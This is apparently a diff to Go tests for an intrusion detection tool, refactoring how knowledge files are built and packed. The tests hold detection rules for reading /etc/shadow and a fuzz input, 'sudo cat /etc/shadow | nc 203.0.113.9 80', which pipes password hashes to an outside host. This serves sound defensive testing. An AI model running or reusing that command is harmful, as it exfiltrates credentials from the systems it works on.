@@ -11,6 +11,7 @@ import (
 
 	"github.com/tocsin-ids/tocsin"
 	"github.com/tocsin-ids/tocsin/decode"
+	"github.com/tocsin-ids/tocsin/rules"
 )
 
 var update = flag.Bool("update", false, "pack the knowledge anew")
@@ -33,7 +34,7 @@ func knowledgeFiles(t *testing.T) []KnowledgeFile {
 		if err != nil {
 			t.Fatal(err)
 		}
-		files = append(files, KnowledgeFile{"builtin/" + filepath.Base(p), data})
+		files = append(files, KnowledgeFile{Path: "builtin/" + filepath.Base(p), Data: data})
 	}
 	return files
 }
@@ -41,7 +42,7 @@ func knowledgeFiles(t *testing.T) []KnowledgeFile {
 func TestPacked(t *testing.T) {
 	want := knowledgeFiles(t)
 	if *update {
-		if err := os.WriteFile("knowledge.bin", packKnowledge(want), 0o644); err != nil {
+		if err := os.WriteFile("knowledge.bin", rules.Pack(want), 0o644); err != nil {
 			t.Fatal(err)
 		}
 		return
@@ -128,7 +129,7 @@ func TestKnowledgeFaults(t *testing.T) {
 		{"colour: red", `"colour" is no key`, 7},
 		{"  and more", "goes on with nothing", 7},
 	} {
-		k, faults := NewKnowledge(KnowledgeFile{"x.knowledge", []byte(good + c.text + "\n")})
+		k, faults := NewKnowledge(KnowledgeFile{Path: "x.knowledge", Data: []byte(good + c.text + "\n")})
 		if len(faults) != 1 || !strings.Contains(faults[0].Error(), c.want) || faults[0].Line != c.line || faults[0].Hint == "" || faults[0].Source != "x.knowledge" {
 			t.Errorf("%q\n  gives %v, want %q in line %d", c.text, faults, c.want, c.line)
 		}
@@ -142,7 +143,7 @@ func TestKnowledgeFaults(t *testing.T) {
 func TestKnowledgeOver(t *testing.T) {
 	const mine = "id: port-scanner\noff: yes\n\nid: whoami-here\ntitle: Asked for here\nname: whoami\nmeans: list discovery T1033 high\nwhy: x\n\n" +
 		"id: secret-shadow\ntitle: Ours\non: argument\nhas: /etc/shadow\nmeans: read credential-access T1003.008 high\nwhy: x\n"
-	k, faults := NewKnowledge(append(OwnKnowledge(), KnowledgeFile{"mine.knowledge", []byte(mine)})...)
+	k, faults := NewKnowledge(append(OwnKnowledge(), KnowledgeFile{Path: "mine.knowledge", Data: []byte(mine)})...)
 	if len(faults) > 0 {
 		t.Fatal(faults)
 	}
@@ -168,7 +169,7 @@ func FuzzKnowledge(f *testing.F) {
 	}
 	f.Add([]byte("id: a\nhas: \"\\x\" ^ $ | ^\"a\"$\n"))
 	f.Fuzz(func(t *testing.T, data []byte) {
-		k, _ := NewKnowledge(KnowledgeFile{"x.knowledge", data})
+		k, _ := NewKnowledge(KnowledgeFile{Path: "x.knowledge", Data: data})
 		r := NewReader(nil, k)
 		k.Test(func(*tocsin.Rule) bool { return true }, func(string, []byte, func(*tocsin.Event)) error { return nil })
 		readCommand("sudo cat /etc/shadow | nc 203.0.113.9 80", anyShell, nil, &masker{know: k})
